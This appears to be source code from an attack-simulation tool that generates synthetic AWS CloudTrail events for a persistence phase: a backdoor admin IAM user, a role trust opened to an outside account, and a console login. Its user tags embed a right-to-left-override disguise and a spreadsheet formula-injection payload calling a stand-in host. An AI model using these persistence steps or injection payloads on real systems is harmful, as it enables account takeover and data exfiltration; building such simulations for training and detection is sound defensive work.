/** What the attacker left behind in IAM: a user with key and password, an opened role. */
import { type Actor, userActor } from '../../../estate/actors.ts';
import { newAccessKey, newUser, policyText, trustText } from '../../../estate/builders.ts';
import { recordDate } from '../../../estate/iso-time.ts';
import type { IamUser } from '../../../estate/types.ts';
import { HOUR_MS, MINUTE_MS } from '../cast.ts';
import { PIPELINE_ROLE, WEB_ROLE } from '../estate/identities.ts';
import type { Script } from '../script.ts';
import { playIntermediateUser } from './intermediate-user.ts';
import { playRoleTheft } from './role-theft.ts';

export const BACKDOOR_USER = 'svc-backup-sync';
const ADMIN_POLICY = 'arn:aws:iam::aws:policy/AdministratorAccess';

export interface Footholds {
  web: Actor;
  backdoor: IamUser;
  backdoorActor: Actor;
  vanished: Actor;
}

/** Plays hours 1 to 9. */
export function playPersistence(script: Script): Footholds {
  const web = playRoleTheft(script);
  const { user: backdoor, actor: backdoorActor } = playBackdoorUser(script, web);
  playRoleTrust(script, web);
  const vanished = playIntermediateUser(script, web);
  playConsoleSignIn(script, backdoor);
  return { web, backdoor, backdoorActor, vanished };
}

function playBackdoorUser(script: Script, web: Actor): { user: IamUser; actor: Actor } {
  const { cast, estate } = script;
  const accountId = cast.accounts.production;
  const { iam } = estate.accounts[accountId]!;
  const madeMs = cast.attackMs + 4 * HOUR_MS + 4 * MINUTE_MS;
  const key = newAccessKey(script.random, madeMs + 60_000);
  key.lastUsed = { atMs: cast.nowMs - 6 * HOUR_MS, serviceName: 'sts', region: 'us-east-1' };
  const user = newUser(script.random, accountId, BACKDOOR_USER, madeMs, {
    accessKeys: [key],
    attachedPolicyArns: [ADMIN_POLICY],
    loginProfile: { createdAtMs: madeMs + 150_000, passwordResetRequired: false },
    passwordLastUsedAtMs: cast.attackMs + 9 * HOUR_MS,
    tags: { owner: '\u202eknalb-kcart', note: '=HYPERLINK("http://198.51.100.23/?q="&A1,"Open report")' },
  });
  iam.users[user.name] = user;
  const base = { accountId, actor: web, region: 'us-east-1', service: 'iam' };
  script.step('create-backdoor-user', { principal: `assumed-role/${WEB_ROLE}`, affected: [user.arn] }, [
    {
      ...base,
      atMs: madeMs,
      name: 'CreateUser',
      request: { userName: user.name, tags: Object.entries(user.tags).map(([k, value]) => ({ key: k, value })) },
      response: {
        user: { path: '/', userName: user.name, userId: user.id, arn: user.arn, createDate: recordDate(madeMs) },
      },
    },
    {
      ...base,
      atMs: madeMs + 60_000,
      name: 'CreateAccessKey',
      request: { userName: user.name },
      response: {
        accessKey: {
          accessKeyId: key.id,
          status: 'Active',
          userName: user.name,
          createDate: recordDate(madeMs + 60_000),
        },
      },
    },
    {
      ...base,
      atMs: madeMs + 110_000,
      name: 'AttachUserPolicy',
      request: { userName: user.name, policyArn: ADMIN_POLICY },
    },
    {
      ...base,
      atMs: madeMs + 150_000,
      name: 'CreateLoginProfile',
      request: { userName: user.name, passwordResetRequired: false },
      response: {
        loginProfile: { userName: user.name, createDate: recordDate(madeMs + 150_000), passwordResetRequired: false },
      },
    },
  ]);
  return { user, actor: userActor(accountId, user, cast.origins.attackerHost, key.id) };
}

function playRoleTrust(script: Script, web: Actor): void {
  const { cast, estate } = script;
  const accountId = cast.accounts.production;
  const role = estate.accounts[accountId]!.iam.roles[PIPELINE_ROLE]!;
  const opened = trustText({ AWS: `arn:aws:iam::${cast.accounts.external}:root` });
  role.trustPolicy = policyText([...statementsOf(role.trustPolicy), ...statementsOf(opened)]);
  script.step('open-role-trust', { principal: `assumed-role/${WEB_ROLE}`, affected: [role.arn] }, [
    {
      atMs: cast.attackMs + 4.4 * HOUR_MS,
      accountId,
      actor: web,
      region: 'us-east-1',
      service: 'iam',
      name: 'UpdateAssumeRolePolicy',
      request: { roleName: role.name, policyDocument: role.trustPolicy },
    },
  ]);
}

function statementsOf(document: string): object[] {
  return (JSON.parse(document) as { Statement: object[] }).Statement;
}

function playConsoleSignIn(script: Script, user: IamUser): void {
  const { cast } = script;
  const accountId = cast.accounts.production;
  const { ip } = cast.origins.attacker;
  const actor = userActor(accountId, user, {
    ip,
    agent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:130.0) Gecko/20100101 Firefox/130.0',
  });
  const additional = {
    LoginTo: 'https://console.aws.amazon.com/console/home?hashArgs=%23&isauthcode=true',
    MobileVersion: 'No',
    MFAUsed: 'No',
  };
  const base = {
    accountId,
    region: 'eu-west-1',
    actor,
    service: 'signin',
    name: 'ConsoleLogin',
    readOnly: false,
    eventType: 'AwsConsoleSignIn',
    additional,
  } as const;
  const atMs = cast.attackMs + 9 * HOUR_MS;
  script.step('console-sign-in', { principal: user.arn, affected: [user.arn] }, [
    {
      ...base,
      atMs: atMs - 70_000,
      error: { message: 'Failed authentication' },
      response: { ConsoleLogin: 'Failure' },
    },
    { ...base, atMs, response: { ConsoleLogin: 'Success' } },
  ]);
}
